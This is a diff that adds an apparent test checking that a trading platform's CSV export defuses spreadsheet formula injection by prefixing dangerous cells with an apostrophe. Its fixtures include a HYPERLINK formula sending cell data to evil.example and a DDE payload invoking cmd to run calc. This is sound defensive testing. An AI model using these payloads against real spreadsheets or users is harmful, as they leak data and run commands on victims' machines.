@@ -183,3 +183,31 @@ async def test_refusals_are_listed_with_who_what_and_when(databases: Any, tmp_pa
                                  headers=operator.auth)).json() == {"items": [], "next_cursor": None}
         assert_problem(await client.get("/v1/oversight/refusals", params={"cursor": "bm9wZQ"},
                                         headers=operator.auth), 422)
+
+
+async def test_csv_never_hands_a_spreadsheet_a_formula(databases: Any, tmp_path: Any) -> None:
+    """A party's name or title that begins like a formula is written as text (a leading
+    ``'``, OWASP CSV injection); amounts stay numbers; the JSON is unchanged."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    async with own_app(databases, tmp_path) as m:
+        client, parties, operator = m.client, m.parties, m.operator
+        regulator = await parties.staff("regulator")
+        _, listing = await offer(client, parties, operator, plans=[ONE_TIME, FREE],
+                                 asset={"title": "@SUM(1+1)*cmd|' /C calc'!A0"})
+        named = {"=": formula, "+": "+1+1", "-": "-2+3", "@": "@cmd"}  # names are stripped: no tab or CR first
+        placed: dict[str, str] = {}
+        for name in named.values():
+            b = await buyer(client, parties, name=name)
+            placed[(await place(client, b, listing, "one_time"))["id"]] = name
+        _, rows = await _csv(client, regulator)
+        assert len(rows) == len(named)
+        for row in rows:
+            assert row["buyer_name"] == "'" + placed[row["id"]]
+            assert row["asset_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+            assert row["price"] == str(ONE_TIME["price"]["amount"]) and row["fee"].isdigit()
+            for column, value in row.items():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+        pages = await _all_pages(client, regulator)
+        assert {t["buyer"]["name"] for t in pages} == set(named.values())
+    assert trades.neutral("\t=1+1") == "'\t=1+1" and trades.neutral("\r=1") == "'\r=1"
+    assert trades.neutral(-5) == -5 and trades.neutral("a=b") == "a=b" and trades.neutral(None) is None
